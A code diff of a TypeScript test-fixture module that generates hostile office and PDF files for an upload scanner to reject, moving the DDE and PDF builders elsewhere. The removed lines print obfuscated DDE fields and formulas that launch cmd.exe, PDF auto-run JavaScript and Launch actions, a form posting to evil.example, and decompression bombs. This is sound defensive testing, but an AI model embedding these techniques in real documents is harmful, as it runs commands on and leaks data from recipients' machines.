@@ -1,40 +1,9 @@
-import { deflateRawSync, deflateSync } from "node:zlib";
+import { deflateRawSync } from "node:zlib";
 import sharp from "sharp";
-import {
-  contentTypes,
-  docx,
-  docxWithField,
-  instruction,
-  mark,
-  relationship,
-  relationships,
-  wordField,
-  xlsx,
-  xlsxWithFormula,
-  zip,
-} from "./office-files.ts";
-import type { UnsafeKind } from "../unsafe-content.ts";
-
-/** What refuses a file: the kind of what was found, a picture that cannot be drawn, or a type that is not accepted. */
-type RefusedFor = UnsafeKind | "broken" | "type";
-export type HostileFile = {
-  readonly description: string;
-  readonly name: string;
-  readonly content: Buffer;
-  readonly refusedFor: RefusedFor;
-};
-type Described = readonly [RefusedFor, string, Buffer | Promise<Buffer>];
-
-async function nameFiles(name: string, files: readonly Described[]): Promise<HostileFile[]> {
-  return Promise.all(
-    files.map(async ([refusedFor, description, content]) => ({
-      refusedFor,
-      description,
-      name,
-      content: await content,
-    })),
-  );
-}
+import { contentTypes, docx, relationship, relationships, xlsx, zip } from "./office-files.ts";
+import { buildDdeFiles } from "./hostile-dde-files.ts";
+import { type HostileFile, nameFiles } from "./hostile-file.ts";
+import { hostilePdfs, pdf } from "./hostile-pdfs.ts";
 
 const MB = 1024 * 1024;
 /** An archive with one compressed part, whose size is what it unpacks to. */
@@ -46,19 +15,6 @@ async function explodingPackage(bytes: number): Promise<Buffer> {
   for (const method of [local + 8, inDirectory + 10]) whole.writeUInt16LE(8, method);
   for (const size of [local + 22, inDirectory + 24]) whole.writeUInt32LE(bytes, size);
   return whole;
-}
-
-const pdf = (objects: string | Buffer): Buffer =>
-  Buffer.concat([
-    Buffer.from("%PDF-1.7\n"),
-    Buffer.from(objects),
-    Buffer.from("\ntrailer<</Root 1 0 R>>\n%%EOF\n"),
-  ]);
-
-function objectStream(text: string, filter = "/FlateDecode"): Buffer {
-  const packed = deflateSync(text);
-  const head = `5 0 obj<</Type/ObjStm/N 1/First 4/Filter ${filter}/Length ${packed.length}>>stream\n`;
-  return Buffer.concat([Buffer.from(head), packed, Buffer.from("\nendstream endobj")]);
 }
 
 function withSize(png: Buffer, width: number, height: number): Buffer {
@@ -201,84 +157,6 @@ async function activePackages(): Promise<HostileFile[]> {
   ];
 }
 
-async function ddeDocuments(): Promise<HostileFile[]> {
-  const command = "c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;";
-  const [begin, end] = [mark("begin"), mark("end")];
-  const nested = (before: readonly string[], inner: string) => {
-    const field = wordField(begin, ...before, begin, instruction(inner), end, end);
-    return docx({ "word/document.xml": field });
-  };
-  const ddeField = `w:instr=" DDEAUTO ${command}"`;
-  const header = (run: string, before = "") => {
-    const part = wordField(run).replace(/^<\?xml[^>]*\?><w:document/, '<w:document xmlns:x="other"');
-    return docx({ "word/header1.xml": before + part });
-  };
-  return [
-    ...(await nameFiles("a.docx", [
-      ["office", "a DDE field", docxWithField(` DDEAUTO ${command} `)],
-      ["office", "a DDE field in pieces", docxWithField(" D", "DE", `AUTO ${command}`)],
-      ["office", "a DDE field in entities", docxWithField(`&#68;&#x44;EAUTO ${command}`)],
-      ["office", "a DDE field in a CDATA section", docxWithField(`<![CDATA[DDE ${command}]]>`)],
-      [
-        "office",
-        "a simple DDE field",
-        docx({ "word/header1.xml": wordField(`<w:fldSimple w:instr=" dde ${command}"/>`) }),
-      ],
-      ["office", "a field named by another field", nested([], "QUOTE 68 68 69")],
-      ["office", "a field whose name ends in another field", nested([instruction(" D")], "QUOTE 68")],
-      [
-        "office",
-        "a DDE field behind another attribute",
-        header(`<w:fldSimple w:x=">" x:instr="a" ${ddeField}/>`),
-      ],
-      [
-        "office",
-        "a DDE field behind an instruction",
-        header(`<?a ><!-- ?><w:fldSimple ${ddeField}/><?b --> ?>`),
-      ],
-      ["office", "a DDE field behind blanks", header(`<w:fldSimple ${ddeField}/>`, " ".repeat(9000))],
-      [
-        "archive",
-        "a part in another encoding",
-        docx({ "word/header1.foo": Buffer.from("\uFEFF<a/>", "utf16le") }),
-      ],
-    ])),
-  ];
-}
-
-function ddeWorkbooks(): Promise<HostileFile[]> {
-  const link = `<x:externalLink xmlns:x="m"><x:ddeLink ddeService="cmd" ddeTopic="/c calc"/></x:externalLink>`;
-  return nameFiles("a.xlsx", [
-    ["office", "a DDE formula behind brackets", xlsxWithFormula("T['[]&amp;cmd|'/c calc'!A0")],
-    ["office", "a DDE link of a workbook", xlsx({ "xl/externalLinks/externalLink1.xml": link })],
-    ["office", "a DDE formula", xlsxWithFormula("cmd|'/c calc'!A0")],
-  ]);
-}
-
-function hostilePdfs(): Promise<HostileFile[]> {
-  const filters = "[/ASCIIHexDecode/FlateDecode]";
-  return nameFiles("a.pdf", [
-    ["pdf", "a script", pdf("1 0 obj<</OpenAction<</S/JavaScript/JS(1)>>>>endobj")],
-    ["pdf", "a script in codes", pdf("1 0 obj<</OpenAction<</S/J#61vaScr#69pt/JS(1)>>>>endobj")],
-    ["pdf", "a script among compressed objects", pdf(objectStream("1 0 <</S/JavaScript/JS(1)>>"))],
-    [
-      "pdf",
-      "a script behind a misleading word",
-      pdf(objectStream("1 0 <</S/JavaScript/JS(1)>>", "/FlateDecode/X(obj)")),
-    ],
-    ["pdf", "nothing but streams", pdf("stream\n".repeat(1_400_000))],
-    ["pdf", "objects in another filter", pdf(objectStream("1 0 <<>>", filters))],
-    ["pdf", "objects that explode", pdf(objectStream("a".repeat(40 * MB)))],
-    ["pdf", "the start of a program", pdf("1 0 obj<</A<</S/Launch/F(cmd.exe)>>>>endobj")],
-    ["pdf", "a file in a PDF", pdf("1 0 obj<</Names<</EmbeddedFiles 2 0 R>>>>endobj")],
-    ["pdf", "a form that sends", pdf("1 0 obj<</A<</S/SubmitForm/F(https://evil.example)>>>>endobj")],
-    ["pdf", "a film", pdf("1 0 obj<</Subtype/RichMedia>>endobj")],
-    ["pdf", "another file that is opened", pdf("1 0 obj<</A<</S/GoToR/F(x.pdf)>>>>endobj")],
-    ["pdf", "a form of its own language", pdf("1 0 obj<</AcroForm<</XFA 3 0 R>>>>endobj")],
-    ["pdf", "an encrypted PDF", pdf("1 0 obj<<>>endobj\ntrailer<</Encrypt 3 0 R>>")],
-  ]);
-}
-
 /** Files that must never be stored, with what refuses each. */
 export async function buildHostileFiles(): Promise<HostileFile[]> {
   const builders = [
@@ -286,9 +164,8 @@ export async function buildHostileFiles(): Promise<HostileFile[]> {
     mixedFiles,
     strangePackages,
     activePackages,
-    ddeDocuments,
-    ddeWorkbooks,
-    hostilePdfs,
+    buildDdeFiles,
+    () => nameFiles("a.pdf", hostilePdfs()),
   ];
   const files: HostileFile[] = [];
   for (const build of builders) files.push(...(await build()));
